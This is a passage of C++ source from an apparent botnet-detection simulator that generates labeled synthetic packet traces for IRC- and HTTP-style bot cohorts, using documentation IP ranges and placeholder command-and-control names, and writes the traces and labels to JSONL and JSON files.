    const auto& c = spec.cohorts[ci];
    CohortLabel label{c.name, c.style, {}, std::nullopt};
    for (int b = 0; b < c.n_bots; ++b) label.hosts.push_back(detail::internal_host(next_host++));
    const Timestamp onset = spec.start + c.start;
    const Timestamp stop = c.stop ? std::min(end, spec.start + *c.stop) : end;
    detail::CohortAddresses addr{
        c.style == BotStyle::IrcPersistent ? Ipv4(198, 51, 100, static_cast<std::uint8_t>(10 + ci))
                                           : Ipv4(203, 0, 113, static_cast<std::uint8_t>(10 + ci)),
        c.name + "-cc.example"};

    std::vector<std::size_t> first_stream;
    std::vector<Rng> rngs;
    for (int b = 0; b < c.n_bots; ++b)
      rngs.push_back(detail::actor_rng(spec.seed, 3 + static_cast<std::uint32_t>(ci), static_cast<std::uint32_t>(b)));
    auto begin_streams = streams.size();
    std::vector<detail::Emitter> ems;
    for (int b = 0; b < c.n_bots; ++b) stream();
    for (int b = 0; b < c.n_bots; ++b) ems.emplace_back(streams[begin_streams + b], rngs[b]);

    if (onset < stop) {
      if (c.style == BotStyle::IrcPersistent) {
        auto cohort_rng = detail::actor_rng(spec.seed, 1000 + static_cast<std::uint32_t>(ci), 0);
        detail::irc_cohort(ems, spec, c, label.hosts, addr, cohort_rng, onset, stop);
      } else {
        for (int b = 0; b < c.n_bots; ++b) detail::http_bot(ems[b], spec, c, label.hosts[b], addr, onset, stop);
      }
    }
    trace.labels.bots.insert(trace.labels.bots.end(), label.hosts.begin(), label.hosts.end());
    trace.labels.cohorts.push_back(std::move(label));
  }
  trace.labels.normal = normals;

  std::size_t total = 0;
  for (const auto& s : streams) total += s.size();
  trace.events.reserve(total);
  for (auto& s : streams) {
    for (auto& ev : s)
      if (ev.ts < end) trace.events.push_back(std::move(ev));
    s = {};
  }
  std::stable_sort(trace.events.begin(), trace.events.end(),
                   [](const PacketEvent& a, const PacketEvent& b) { return a.ts < b.ts; });

  if (!trace.events.empty()) {
    const Timestamp epoch = trace.events.front().ts;
    trace.labels.epoch = epoch;
    for (auto& label : trace.labels.cohorts) {
      for (const auto& ev : trace.events) {
        if (std::binary_search(label.hosts.begin(), label.hosts.end(), ev.src_ip)) {
          label.onset_window = window_index(ev.ts, epoch, spec.tw_size);
          break;
        }
      }
    }
  }
  return trace;
}

// Writes the trace as JSONL and the labels as JSON.
inline void write(const Trace& trace, const std::string& trace_path, const std::string& labels_path) {
  std::ofstream out(trace_path);
  if (!out) throw InputError("cannot write " + trace_path);
  write_trace(out, trace.events);
  std::ofstream labels(labels_path);
  if (!labels) throw InputError("cannot write " + labels_path);
  labels << to_json(trace.labels).dump(2) << '\n';
}

}  // namespace botwatch::sim
